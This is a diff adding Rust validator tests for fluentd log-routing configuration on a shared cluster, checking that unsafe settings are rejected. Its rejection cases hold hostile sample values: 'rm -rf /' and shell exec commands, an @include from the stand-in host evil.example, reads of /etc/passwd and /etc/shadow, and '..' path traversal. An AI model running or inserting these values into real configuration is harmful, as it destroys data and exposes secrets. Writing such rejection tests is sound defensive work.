@@ -1101,6 +1101,312 @@ fn every_cutover_stage_is_accepted_with_legacy() {
     }
 }
 
+// ---- the shared fluentd: hostile values and tenancy -------------------------------------------
+
+/// `spec.legacy` with a target and `routes`, written into key `key` of a shared ConfigMap.
+fn legacy_keyed(key: &str) -> Value {
+    json!({"fluentd": {
+        "target": {"host": "fluentd.logging.svc"},
+        "config": {"namespace": "logging", "name": "fluentd-routes", "key": key},
+        "reload": {"kind": "DaemonSet", "name": "fluentd"},
+        "routes": [{"match": "app.orders.**", "logGroup": "/ecs/orders"}],
+    }})
+}
+
+/// `spec.legacy` with the target's buffer set to `buffer`.
+fn legacy_buffer(buffer: Value) -> Value {
+    json!({"fluentd": {"target": {"host": "fluentd.logging.svc", "buffer": buffer}}})
+}
+
+/// `spec.legacy` with a verbatim store and two routes.
+fn legacy_store(store: &str) -> Value {
+    json!({"fluentd": {"store": store, "routes": [
+        {"match": "app.orders.api.**", "logGroup": "/ecs/orders"},
+        {"match": "app.orders.worker.**", "logGroup": "/ecs/orders"},
+    ]}})
+}
+
+const FORWARD: &str = "@type forward\n<server>\n  host agg.example\n  port 24224\n</server>\n";
+
+#[test]
+fn a_buffer_path_that_climbs_or_doubles_slashes_is_rejected() {
+    for bad in [
+        "/var/log/../etc",
+        "/var/log/fluentd-buffers/..",
+        "/var/./log",
+        "/var//log",
+    ] {
+        let e = only_error(&[("legacy", legacy_buffer(json!({"path": bad})))]);
+        assert_eq!(e.path, "spec.legacy.fluentd.target.buffer.path", "{bad}");
+        assert_eq!(e.value, quoted(bad));
+        assert_message_contains(&e, &["segment", "/var/log/fluentd-buffers/pitagora"]);
+    }
+}
+
+#[test]
+fn a_buffer_path_naming_its_directory_is_accepted() {
+    for good in [
+        "/var/log/fluentd-buffers/pitagora",
+        "/buffers/",
+        "/b..c/x.y",
+    ] {
+        assert_valid(&[("legacy", legacy_buffer(json!({"path": good})))]);
+    }
+}
+
+#[test]
+fn zero_buffer_sizes_are_rejected() {
+    for (field, bad) in [
+        ("chunkLimitSize", "0"),
+        ("chunkLimitSize", "0m"),
+        ("totalLimitSize", "0"),
+        ("totalLimitSize", "00g"),
+    ] {
+        let e = only_error(&[("legacy", legacy_buffer(json!({field: bad})))]);
+        assert_eq!(e.path, format!("spec.legacy.fluentd.target.buffer.{field}"));
+        assert_message_contains(&e, &["above zero"]);
+    }
+}
+
+#[test]
+fn a_chunk_larger_than_the_buffer_is_rejected_naming_both() {
+    let e = only_error(&[(
+        "legacy",
+        legacy_buffer(json!({"chunkLimitSize": "1g", "totalLimitSize": "512m"})),
+    )]);
+    assert_eq!(e.path, "spec.legacy.fluentd.target.buffer.chunkLimitSize");
+    assert_message_contains(&e, &["totalLimitSize", "512m"]);
+}
+
+#[test]
+fn a_chunk_as_large_as_the_buffer_is_accepted() {
+    for (chunk, total) in [("512m", "512m"), ("1024k", "1m"), ("8m", "1t")] {
+        assert_valid(&[(
+            "legacy",
+            legacy_buffer(json!({"chunkLimitSize": chunk, "totalLimitSize": total})),
+        )]);
+    }
+}
+
+#[test]
+fn config_map_keys_kubernetes_or_annotations_refuse_are_rejected() {
+    for bad in [
+        ".",
+        "..",
+        "..team-a.x",
+        "team-a/x.conf",
+        "team-a.x.",
+        "team-a.x_",
+        ".team-a.x",
+    ] {
+        let e = only_error(&[("legacy", legacy_keyed(bad))]);
+        assert_eq!(e.path, "spec.legacy.fluentd.config.key", "{bad}");
+        assert_message_contains(&e, &["ConfigMap key"]);
+    }
+}
+
+#[test]
+fn a_key_not_named_after_the_pipelines_namespace_is_rejected_naming_the_rule() {
+    for bad in [
+        "team-b.orders.conf",
+        "team-a-orders.conf",
+        "payments.conf",
+        "team-ab.x",
+    ] {
+        let e = only_error(&[("legacy", legacy_keyed(bad))]);
+        assert_eq!(e.path, "spec.legacy.fluentd.config.key", "{bad}");
+        assert_message_contains(&e, &["team-a.", "team-a.orders.conf", "shared"]);
+    }
+}
+
+#[test]
+fn a_key_named_after_the_pipelines_namespace_is_accepted() {
+    for good in ["team-a.orders.conf", "team-a.x", "team-a.a_b-c.conf"] {
+        assert_valid(&[("legacy", legacy_keyed(good))]);
+    }
+}
+
+#[test]
+fn route_patterns_outside_fluentds_tag_grammar_are_rejected_with_the_reason() {
+    for (bad, reason) in [
+        ("app.{orders,payments", "never closed"),
+        ("app.orders}", "outside"),
+        ("app.#{ENV['X']}", "Ruby"),
+        ("app..orders", "empty tag part"),
+        ("app.orders**", "whole parts"),
+        ("app.orders <x>", "'<'"),
+        ("app.\"x\"", "'\"'"),
+    ] {
+        let e = only_error(&[(
+            "legacy",
+            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
+        )]);
+        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
+        assert_eq!(e.value, quoted(bad));
+        assert_message_contains(&e, &[reason]);
+    }
+}
+
+#[test]
+fn catch_all_routes_are_rejected_as_taking_every_teams_logs() {
+    for bad in ["**", "*.**", "**.*", "app.orders.** **", "{**,app}"] {
+        let e = only_error(&[(
+            "legacy",
+            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
+        )]);
+        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
+        assert_message_contains(&e, &["matches every tag", "every team's logs"]);
+    }
+}
+
+#[test]
+fn routes_not_beginning_with_a_fixed_tag_part_are_rejected() {
+    for bad in [
+        "*.orders",
+        "**.orders",
+        "app*.orders",
+        "{app,*}.orders",
+        "*.*.**",
+    ] {
+        let e = only_error(&[(
+            "legacy",
+            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
+        )]);
+        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
+        assert_message_contains(&e, &["fixed tag part"]);
+    }
+}
+
+#[test]
+fn routes_in_fluentds_grammar_under_a_fixed_first_part_are_accepted() {
+    for good in [
+        "app.orders.**",
+        "app.{orders,payments}.*",
+        "{app,web}.orders.**",
+        "app.orders app.payments.**",
+        "kube.orders-1_x.*.log",
+    ] {
+        assert_valid(&[(
+            "legacy",
+            legacy_with_routes(json!([{"match": good, "logGroup": "/ecs/orders"}])),
+        )]);
+    }
+}
+
+#[test]
+fn a_store_reaching_beyond_one_output_is_rejected_naming_the_store() {
+    let file_buffer =
+        |path: &str| format!("{FORWARD}<buffer>\n  @type file\n  path {path}\n</buffer>\n");
+    let cases: Vec<(String, &str)> = vec![
+        ("@type exec\ncommand rm -rf /\n".into(), "runs commands"),
+        ("@type exec_filter\ncommand sh\n".into(), "runs commands"),
+        (
+            format!("{FORWARD}<secondary>\n  @type exec\n  command sh\n</secondary>\n"),
+            "runs commands",
+        ),
+        (
+            format!("{FORWARD}@include https://evil.example/x.conf\n"),
+            "@include",
+        ),
+        (
+            format!("{FORWARD}<buffer>\n  @include /etc/passwd\n</buffer>\n"),
+            "@include",
+        ),
+        (
+            format!("{FORWARD}<source>\n  @type forward\n</source>\n"),
+            "<source> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<match **>\n  @type null\n</match>\n"),
+            "<match> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<filter **>\n  @type grep\n</filter>\n"),
+            "<filter> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<label @X>\n</label>\n"),
+            "<label> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<system>\n  workers 8\n</system>\n"),
+            "<system> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<store>\n  @type forward\n</store>\n"),
+            "<store> cannot appear",
+        ),
+        (
+            format!("{FORWARD}<buffer>\n  <server>\n  </server>\n</buffer>\n"),
+            "parameters only",
+        ),
+        (
+            format!(
+                "{FORWARD}<secondary>\n  @type forward\n  <buffer>\n  </buffer>\n</secondary>\n"
+            ),
+            "<buffer> cannot appear inside <secondary>",
+        ),
+        (
+            format!("{FORWARD}shared_key \"#{{File.read('/etc/shadow')}}\"\n"),
+            "Ruby code",
+        ),
+        (format!("{FORWARD}@type forward\n"), "second @type"),
+        (
+            "<server>\n  host agg\n</server>\n".into(),
+            "names no output",
+        ),
+        (format!("@id legacy\n{FORWARD}"), "@id"),
+        (
+            file_buffer("/var/log/fluentd-buffers/fixed"),
+            "does not hold {{route}}",
+        ),
+        (file_buffer("/var/log/{{route}}/../../etc"), "'..'"),
+        (file_buffer("relative/{{route}}"), "absolute path"),
+        (
+            format!("{FORWARD}<buffer>\n  @type file\n</buffer>\n"),
+            "needs a path",
+        ),
+        (
+            format!("{FORWARD}<buffer>\n  @type s3\n</buffer>\n"),
+            "buffer plugins",
+        ),
+        (
+            format!("{FORWARD}<server>\n"),
+            "not valid fluentd configuration",
+        ),
+    ];
+    for (store, reason) in cases {
+        let errors = errors_with(&[("legacy", legacy_store(&store))]);
+        assert!(!errors.is_empty(), "accepted:\n{store}");
+        for e in &errors {
+            assert_eq!(e.path, "spec.legacy.fluentd.store", "{store}");
+        }
+        assert!(
+            errors.iter().any(|e| e.message.contains(reason)),
+            "{reason:?} not said for\n{store}: {errors:#?}"
+        );
+    }
+}
+
+#[test]
+fn a_store_holding_one_output_and_its_sections_is_accepted() {
+    let stores = [
+        FORWARD.to_owned(),
+        format!(
+            "{FORWARD}transport tls\ntls_verify_hostname true\n<security>\n  self_hostname agent\n  shared_key s3cret\n</security>\n"
+        ),
+        format!(
+            "{FORWARD}<buffer>\n  @type file\n  path /var/log/fluentd-buffers/{{{{route}}}}\n  chunk_limit_size 8m\n</buffer>\n"
+        ),
+        format!(
+            "{FORWARD}<buffer tag>\n  @type memory\n</buffer>\n<secondary>\n  @type forward\n  <server>\n    host standby\n  </server>\n</secondary>\n"
+        ),
+    ];
+    for store in &stores {
+        assert_valid(&[("legacy", legacy_store(store))]);
+    }
+}
+
 // ---- drift -------------------------------------------------------------------------------------
 
 #[test]
